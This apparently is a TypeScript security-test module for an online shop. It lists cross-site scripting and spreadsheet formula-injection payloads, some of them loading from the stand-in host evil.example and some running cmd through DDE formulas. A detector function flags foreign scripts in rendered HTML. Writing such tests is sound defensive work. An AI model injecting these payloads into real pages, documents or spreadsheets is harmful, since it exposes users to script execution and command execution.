import sanitizeHtml from "sanitize-html";

/** Texts that could run as script, markup or a formula; none may, wherever the shop shows them. */
export const XSS_PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/src=data:,alert(1)>",
  "<script>alert(1)//",
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</option></select><script>alert(1)</script>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<IMG SRC=x oNeRrOr=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<img src='x' onerror='alert(1)'>",
  "<img src=`x` onerror=alert(1)>",
  "<img src=x onerror=&#97;lert(1)>",
  "<img srcset=x onerror=alert(1)>",
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<body onpageshow=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<iframe onload=alert(1)>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<video src=x onerror=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='java&#10;script:alert(1)'>x</a>",
  '<a href=" javascript:alert(1)">x</a>',
  "<a href=data:text/html,<script>alert(1)</script>>x</a>",
  "<form action=javascript:alert(1)><input type=submit>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<base href=javascript:alert(1)//>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import'//evil.example/x.css';</style>",
  "<div style=background:url(javascript:alert(1))>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '"autofocus onfocus=alert(1) x="',
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "#{alert(1)}",
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-1+1|cmd",
  "@SUM(1+1)*cmd|' /C calc'!A0",
] as const;

/** Every element of a page with its attributes, as a browser reads them. */
function elementsOf(html: string): { name: string; attributes: Record<string, string> }[] {
  const found: { name: string; attributes: Record<string, string> }[] = [];
  sanitizeHtml(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    transformTags: {
      "*": (name, attributes) => {
        // A copy, because the sanitiser removes attributes from the original.
        found.push({ name, attributes: { ...attributes } });
        return { tagName: name, attribs: attributes };
      },
    },
  });
  return found;
}

const ADDRESSES = "href src srcset action formaction data poster background xlink:href".split(" ");
const FOREIGN = ["iframe", "object", "embed", "base", "math", "marquee", "keygen", "isindex"];

/** Scripts that would run in a page although the shop did not write them; no page may have any. */
export function foreignScripts(html: string): string[] {
  return elementsOf(html).flatMap(({ name, attributes }) => {
    const isOurs =
      ["page-data", "form-basis"].includes(attributes.id ?? "") ||
      attributes.type === "application/ld+json" ||
      /^\/assets\/entry\.client-[\w-]+\.js$/.test(attributes.src ?? "");
    const runs = Object.entries(attributes).some(
      ([attribute, value]) =>
        /^on|^srcdoc$/i.test(attribute) ||
        // Characters that a browser ignores at the start of a URL and within its scheme.
        (ADDRESSES.includes(attribute.toLowerCase()) &&
          /^(?:javascript|vbscript|data:text)/i.test(value.replace(/[\s\p{Cc}]/gu, ""))),
    );
    const isForeign = FOREIGN.includes(name) || (name === "script" && !isOurs) || runs;
    return isForeign ? [`<${name} ${JSON.stringify(attributes)}>`] : [];
  });
}
